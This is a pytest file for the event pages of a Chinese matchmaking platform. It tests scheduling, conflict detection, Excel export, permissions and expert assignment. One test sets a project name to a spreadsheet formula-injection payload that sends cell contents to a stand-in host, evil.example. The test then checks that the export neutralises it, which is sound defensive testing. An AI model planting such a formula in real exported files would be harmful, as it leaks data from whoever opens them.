"""Event pages: an organiser builds an event from the demo data, sees conflicts with their causes, plans,
gets the timetable and the Excel export; an infeasible event explains itself; meetings become
connections at 已会谈; judges and mentors are assigned with no conflict; registration choices."""

from __future__ import annotations

import io
import re

from openpyxl import load_workbook
from sqlalchemy import select

from models import Connection, ConnectionStage, Institution, Project
from models.accounts import User
from models.events import Event, ExpertAssignment, InstitutionRegistration, Meeting


def _organiser_contest(session) -> int:
    user = session.scalar(select(User).where(User.username == "organiser"))
    return user.contests[0].id


def _other_contest(session, mine: int) -> int:
    return session.scalar(select(Project.contest_id).where(Project.contest_id != mine).limit(1))


def _create(client, contest_id: int, **extra) -> int:
    data = {
        "name": "杭州产融对接会",
        "held_on": "2026-10-20",
        "place": "杭州",
        "slots": "4",
        "institution_capacity": "4",
        "project_min": "1",
        "project_max": "3",
        "contest_ids": [str(contest_id)],
        **extra,
    }
    r = client.post("/events/new", data=data)
    assert r.status_code == 302, r.get_data(as_text=True)
    return int(r.headers["Location"].rstrip("/").split("/")[-1])


def test_organiser_builds_plans_and_exports_an_event(client, auth, session):
    auth.login("organiser")
    contest = _organiser_contest(session)
    # a refused connection between a project of the contest and an institution: detected as a conflict
    refused = session.scalar(
        select(Connection)
        .join(Project, Project.id == Connection.project_id)
        .where(Project.contest_id == contest, Connection.stage == ConnectionStage.REFUSED)
        .limit(1)
    )
    event_id = _create(client, contest)
    r = client.post(f"/events/{event_id}/invite", data={"mode": "contest_projects", "limit": "12"})
    assert r.status_code == 302
    r = client.post(f"/events/{event_id}/invite", data={"mode": "ranked_institutions", "per_project": "1"})
    assert r.status_code == 302
    extra = {"mode": "ids", "project_ids": "", "institution_ids": ""}
    if refused is not None:
        extra = {
            "mode": "ids",
            "project_ids": str(refused.project_id),
            "institution_ids": str(refused.institution_id),
        }
    client.post(f"/events/{event_id}/invite", data=extra)
    event = session.get(Event, event_id)
    projects = [i.project_id for i in event.invites if i.project_id]
    institutions = [i.institution_id for i in event.invites if i.institution_id]
    assert len(projects) >= 5 and len(institutions) >= 3
    session.expire_all()
    # a declared conflict with its cause
    r = client.post(
        f"/events/{event_id}/conflicts",
        data={"project_id": str(projects[0]), "institution_id": str(institutions[0]), "cause": "持股关系"},
    )
    assert r.status_code == 302
    page = client.get(f"/events/{event_id}").get_data(as_text=True)
    assert "持股关系" in page and "申报" in page
    if refused is not None:
        assert "对接已被拒绝" in page and "系统发现" in page
    # plan
    r = client.post(f"/events/{event_id}/plan", follow_redirects=True)
    page = r.get_data(as_text=True)
    assert "排程完成" in page and 'id="plan-ok"' in page, page[:3000]
    session.expire_all()
    meetings = session.scalars(select(Meeting).where(Meeting.event_id == event_id)).all()
    pairs = {(m.project_id, m.institution_id) for m in meetings}
    assert (projects[0], institutions[0]) not in pairs
    if refused is not None:
        assert (refused.project_id, refused.institution_id) not in pairs
    per_project = {p: sum(1 for q, _ in pairs if q == p) for p in projects}
    assert min(per_project.values()) >= 1 and max(per_project.values()) <= 3
    assert len({(m.project_id, m.slot) for m in meetings}) == len(meetings)
    assert len({(m.institution_id, m.slot) for m in meetings}) == len(meetings)
    assert any(m.reasons for m in meetings)
    # timetable, whole and per party
    page = client.get(f"/events/{event_id}/timetable").get_data(as_text=True)
    assert 'id="timetable"' in page and "第 1 场" in page
    one = meetings[0]
    page = client.get(f"/events/{event_id}/timetable?institution={one.institution_id}").get_data(as_text=True)
    name = session.get(Institution, one.institution_id).name
    assert f"机构「{name}」" in page
    assert page.count("<tr>") == 1 + sum(1 for m in meetings if m.institution_id == one.institution_id)
    assert client.get(f"/events/{event_id}/timetable?project=abc").status_code == 400
    # Excel export with match reasons
    r = client.get(f"/events/{event_id}/export.xlsx")
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    wb = load_workbook(io.BytesIO(r.data))
    rows = list(wb["日程"].iter_rows(values_only=True))
    assert rows[1][-1] == "匹配理由" and len(rows) == 2 + len(meetings)
    assert any(row[-1] for row in rows[2:])
    # user text is stored as text in the export, never as a formula
    hostile = session.get(Project, meetings[0].project_id)
    hostile.name = '=HYPERLINK("http://evil.example/?"&B2,"点击查看详情")'
    session.commit()
    wb = load_workbook(io.BytesIO(client.get(f"/events/{event_id}/export.xlsx").data))
    cells = [c for row in wb["日程"].iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
    quoted = [c for c in cells if "HYPERLINK" in c.value]
    assert quoted and all(c.value.startswith("'=") and c.data_type == "s" for c in quoted)
    # a control character in a posted form is refused, nothing stored
    r = client.post(
        f"/events/{event_id}/conflicts",
        data={
            "project_id": str(projects[1]),
            "institution_id": str(institutions[1]),
            "cause": "持股\x01关系",
        },
    )
    assert r.status_code == 422 and "控制字符" in r.get_data(as_text=True)
    assert len(list(wb["按参与方"].iter_rows())) == 1 + 2 * len(meetings)


def test_infeasible_event_explains_itself_and_keeps_no_plan(client, auth, session):
    auth.login("organiser")
    contest = _organiser_contest(session)
    event_id = _create(client, contest, institution_capacity="1", project_min="2", project_max="2")
    client.post(f"/events/{event_id}/invite", data={"mode": "contest_projects", "limit": "10"})
    ids = session.scalars(select(Institution.id).order_by(Institution.id).limit(3)).all()
    client.post(
        f"/events/{event_id}/invite", data={"mode": "ids", "institution_ids": " ".join(map(str, ids))}
    )
    r = client.post(f"/events/{event_id}/plan", follow_redirects=True)
    page = r.get_data(as_text=True)
    assert "无法排程" in page and 'id="plan-blocked"' in page
    assert "机构总容量不足" in page and "提高机构容量" in page
    assert session.scalars(select(Meeting).where(Meeting.event_id == event_id)).all() == []
    assert client.get(f"/events/{event_id}/export.xlsx").status_code == 302  # nothing to export


def test_unavailable_slots_are_respected(client, auth, session):
    auth.login("organiser")
    event_id = _create(client, _organiser_contest(session), slots="3", project_max="2")
    client.post(f"/events/{event_id}/invite", data={"mode": "contest_projects", "limit": "6"})
    ids = session.scalars(select(Institution.id).order_by(Institution.id).limit(4)).all()
    client.post(
        f"/events/{event_id}/invite", data={"mode": "ids", "institution_ids": " ".join(map(str, ids))}
    )
    event = session.get(Event, event_id)
    inv = next(i for i in event.invites if i.institution_id == ids[0])
    assert (
        client.post(f"/events/{event_id}/invites/{inv.id}", data={"unavailable": "1, 2"}).status_code == 302
    )
    bad = client.post(
        f"/events/{event_id}/invites/{inv.id}", data={"unavailable": "9"}, follow_redirects=True
    )
    assert "不可用时段：9 不在 1 到 3 之间" in bad.get_data(as_text=True)
    client.post(f"/events/{event_id}/plan")
    session.expire_all()
    meetings = session.scalars(select(Meeting).where(Meeting.event_id == event_id)).all()
    assert meetings
    assert all(m.slot == 2 for m in meetings if m.institution_id == ids[0])


def test_meetings_become_connections_at_met(client, auth, session):
    auth.login("admin")
    event_id = _create(client, _organiser_contest(session), project_min="1", project_max="1")
    client.post(f"/events/{event_id}/invite", data={"mode": "contest_projects", "limit": "5"})
    client.post(f"/events/{event_id}/invite", data={"mode": "ranked_institutions", "per_project": "1"})
    client.post(f"/events/{event_id}/plan")
    r = client.post(f"/events/{event_id}/held", follow_redirects=True)
    assert "已登记会谈" in r.get_data(as_text=True)
    session.expire_all()
    meetings = session.scalars(select(Meeting).where(Meeting.event_id == event_id)).all()
    assert meetings and all(m.connection_id for m in meetings)
    for m in meetings:
        c = session.get(Connection, m.connection_id)
        assert (c.project_id, c.institution_id) == (m.project_id, m.institution_id)
        assert c.stage in (ConnectionStage.MET, ConnectionStage.DUE_DILIGENCE, ConnectionStage.SIGNED)
        assert any(e.to_stage is ConnectionStage.MET for e in c.events) or c.stage is not ConnectionStage.MET


def test_organisers_only_plan_for_their_own_contests(client, auth, session):
    mine = _organiser_contest(session)
    other = _other_contest(session, mine)
    auth.login("admin")
    foreign = _create(client, other)
    auth.logout()
    auth.login("organiser")
    assert client.get(f"/events/{foreign}").status_code == 403
    assert client.post(f"/events/{foreign}/plan").status_code == 403
    assert f'/events/{foreign}"' not in client.get("/events/").get_data(as_text=True)
    r = client.post("/events/new", data={"name": "越权", "slots": "3", "contest_ids": [str(other)]})
    assert r.status_code == 400 and "只能选择本人负责的赛事" in r.get_data(as_text=True)
    own = _create(client, mine)
    other_project = session.scalar(select(Project.id).where(Project.contest_id == other).limit(1))
    r = client.post(
        f"/events/{own}/invite",
        data={"mode": "ids", "project_ids": str(other_project)},
        follow_redirects=True,
    )
    assert "不属于本活动的赛事" in r.get_data(as_text=True)
    auth.logout()
    auth.login("fund")
    assert client.get("/events/").status_code == 403


def test_event_form_errors_are_chinese_and_name_the_field(client, auth, session):
    auth.login("organiser")
    contest = str(_organiser_contest(session))
    for data, message in (
        ({"name": "", "slots": "4"}, "活动名称：必填"),
        ({"name": "x", "slots": "4.0"}, "时段数：应为 1 到 48 之间的整数"),
        ({"name": "x", "slots": "-1"}, "时段数：应为 1 到 48 之间的整数"),
        ({"name": "x", "slots": "99999999999"}, "时段数：应为 1 到 48 之间的整数"),
        ({"name": "x", "project_min": "3", "project_max": "2"}, "不能大于最多会谈数"),
        ({"name": "x", "held_on": "2026-13-01"}, "活动日期：应为 YYYY-MM-DD"),
    ):
        r = client.post("/events/new", data={**data, "contest_ids": [contest]})
        assert r.status_code == 400 and message in r.get_data(as_text=True), message
    assert session.scalars(select(Event)).all() == []


def test_event_forms_need_the_csrf_token(make_app):
    app = make_app(WTF_CSRF_ENABLED=True)
    client = app.test_client()
    html = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
    client.post("/login", data={"username": "admin", "password": "demo-admin-2026", "csrf_token": token})
    r = client.post("/events/new", data={"name": "无令牌", "slots": "3"})
    assert r.status_code == 400
    page = client.get("/events/new").get_data(as_text=True)
    assert 'name="csrf_token"' in page


def _add_judge(
    client, name, employer="", capacity="200", roles=("评委",), kinds=("技术",), fields=""
) -> None:
    data = {
        "name": name,
        "employer_institution_id": employer,
        "capacity": capacity,
        "roles": list(roles),
        "kinds": list(kinds),
        "fields": fields,
    }
    r = client.post("/events/experts", data=data)
    assert r.status_code == 302, r.get_data(as_text=True)


def test_judges_are_assigned_with_coverage_and_no_conflict(client, auth, session):
    auth.login("organiser")
    contest = _organiser_contest(session)
    # a judge employed by an institution connected with projects of the contest
    conn = session.scalar(
        select(Connection)
        .join(Project, Project.id == Connection.project_id)
        .where(Project.contest_id == contest)
        .limit(1)
    )
    _add_judge(client, "王评委", employer=str(conn.institution_id))
    for n in range(3):
        _add_judge(client, f"评委{n}", fields="新材料，智能制造")
    r = client.post("/events/experts", data={"name": "", "roles": []})
    assert r.status_code == 400 and "姓名：必填" in r.get_data(as_text=True)
    r = client.post("/events/assign", data={"contest_id": str(contest), "role": "评委", "coverage": "3"})
    page = r.get_data(as_text=True)
    assert 'id="assign-ok"' in page, page[:2000]
    rows = session.scalars(select(ExpertAssignment).where(ExpertAssignment.contest_id == contest)).all()
    by_project: dict[int, int] = {}
    for a in rows:
        by_project[a.project_id] = by_project.get(a.project_id, 0) + 1
    n_projects = len(session.scalars(select(Project.id).where(Project.contest_id == contest)).all())
    assert len(by_project) == n_projects and set(by_project.values()) == {3}
    wang = {a.project_id for a in rows if a.expert_id == 1}
    connected = set(
        session.scalars(select(Connection.project_id).where(Connection.institution_id == conn.institution_id))
    )
    assert not wang & connected and conn.project_id not in wang
    # five judges per project but only four judges: the report says which constraint blocks it
    r = client.post("/events/assign", data={"contest_id": str(contest), "role": "评委", "coverage": "5"})
    page = r.get_data(as_text=True)
    assert 'id="assign-blocked"' in page and "可分配专家不足" in page and "只有 4 家" in page


def test_registration_choices_by_the_institution_itself(client, auth, session):
    auth.login("fund")
    own = session.scalar(select(User).where(User.username == "fund")).institution_id
    other = session.scalar(select(Institution.id).where(Institution.id != own).limit(1))
    r = client.post(f"/events/registration/{own}", data={"choices": ["参加对接活动", "成为大赛评委"]})
    assert r.status_code == 302
    assert session.get(InstitutionRegistration, own).choices == ["EVENTS", "JUDGE"]
    assert "checked" in client.get(f"/events/registration/{own}").get_data(as_text=True)
    assert client.post(f"/events/registration/{other}", data={"choices": ["发布对接需求"]}).status_code == 403
    assert client.post(f"/events/registration/{own}", data={"choices": ["乱填"]}).status_code == 400


def test_contest_projects_are_invited_best_award_first(client, auth, session):
    from models import Award

    auth.login("organiser")
    contest = _organiser_contest(session)
    event_id = _create(client, contest)
    client.post(f"/events/{event_id}/invite", data={"mode": "contest_projects", "limit": "3"})
    invited = [i.project_id for i in session.get(Event, event_id).invites]
    awards = dict(
        session.execute(select(Project.id, Project.award).where(Project.contest_id == contest)).all()
    )
    rank = {a: n for n, a in enumerate(Award)}
    best = sorted(awards, key=lambda p: (rank[awards[p]], p))[:3]
    assert invited == best


def test_organiser_invites_the_contest_projects_a_filter_picks(client, auth, session):
    auth.login("organiser")
    contest = _organiser_contest(session)
    industry = session.scalar(
        select(Project.industry).where(Project.contest_id == contest, Project.archived_at.is_(None)).limit(1)
    )
    event_id = _create(client, contest)
    r = client.post(
        f"/events/{event_id}/invite", data={"mode": "contest_projects", "limit": "500", "industry": industry}
    )
    assert r.status_code == 302
    session.expire_all()
    invited = {i.project_id for i in session.get(Event, event_id).invites if i.project_id}
    expected = set(
        session.scalars(
            select(Project.id).where(
                Project.contest_id == contest, Project.industry == industry, Project.archived_at.is_(None)
            )
        )
    )
    assert invited == expected and invited
    # a value outside the vocabulary is refused with the field named, nobody invited
    before = len(session.get(Event, event_id).invites)
    page = client.post(
        f"/events/{event_id}/invite",
        data={"mode": "contest_projects", "limit": "5", "industry": "不存在的行业"},
        follow_redirects=True,
    ).get_data(as_text=True)
    assert "行业" in page
    session.expire_all()
    assert len(session.get(Event, event_id).invites) == before


def test_a_mentor_is_never_in_two_meetings_at_once(client, auth, session):
    from models.events import Expert, ExpertRole

    auth.login("organiser")
    contest = _organiser_contest(session)
    p1, p2 = session.scalars(
        select(Project.id).where(Project.contest_id == contest, Project.archived_at.is_(None)).limit(2)
    ).all()
    i1, i2 = session.scalars(select(Institution.id).where(Institution.archived_at.is_(None)).limit(2)).all()
    mentor = Expert(name="王导师", fields=[], kinds=["MANAGEMENT"], roles=["MENTOR"], capacity=5)
    session.add(mentor)
    session.flush()
    mentor_id = mentor.id
    for p in (p1, p2):
        session.add(ExpertAssignment(expert_id=mentor.id, project_id=p, role=ExpertRole.MENTOR))
    session.commit()

    def plan(slots: str) -> tuple[int, str]:
        event_id = _create(client, contest, slots=slots, project_min="1", project_max="1")
        client.post(
            f"/events/{event_id}/invite",
            data={"mode": "ids", "project_ids": f"{p1},{p2}", "institution_ids": f"{i1},{i2}"},
        )
        page = client.post(f"/events/{event_id}/plan", follow_redirects=True).get_data(as_text=True)
        return event_id, page

    event_id, page = plan("2")
    assert 'id="plan-ok"' in page, page[:2000]
    session.expire_all()
    meetings = session.scalars(select(Meeting).where(Meeting.event_id == event_id)).all()
    assert {m.project_id for m in meetings} == {p1, p2}
    assert len({m.slot for m in meetings}) == 2  # the shared mentor attends both, one after the other
    _event_id, page = plan("1")  # both projects in one slot would need the mentor twice
    assert 'id="plan-ok"' not in page and f"创业导师 {mentor_id}" in page


def test_a_judge_of_the_projects_own_company_is_a_conflict(app, session):
    from app.events.planning import expert_conflicts
    from models.events import Expert

    project = session.scalar(select(Project).where(Project.archived_at.is_(None)).limit(1))
    project.team = "核心成员均来自华芯微纳科技有限公司研发部"
    same = Expert(name="赵评委", employer="华芯微纳科技股份有限公司", fields=[], kinds=[], roles=["JUDGE"])
    other = Expert(name="钱评委", employer="远山材料有限公司", fields=[], kinds=[], roles=["JUDGE"])
    vague = Expert(name="孙评委", employer="有限公司", fields=[], kinds=[], roles=["JUDGE"])
    session.add_all([same, other, vague])
    session.commit()
    with app.app_context():
        found = expert_conflicts(session, [same, other, vague], [project])
    assert found == {(project.id, same.id): "任职单位「华芯微纳科技」即项目所在单位"}


def test_organiser_invites_the_institutions_a_filter_picks(client, auth, session):
    from models.enums import InstitutionKind

    auth.login("organiser")
    event_id = _create(client, _organiser_contest(session))
    r = client.post(
        f"/events/{event_id}/invite",
        data={"mode": "filtered_institutions", "limit": "500", "kind": InstitutionKind.BANK.value},
    )
    assert r.status_code == 302
    session.expire_all()
    invited = {i.institution_id for i in session.get(Event, event_id).invites if i.institution_id}
    banks = set(
        session.scalars(
            select(Institution.id).where(
                Institution.kind == InstitutionKind.BANK, Institution.archived_at.is_(None)
            )
        )
    )
    assert invited == banks and banks
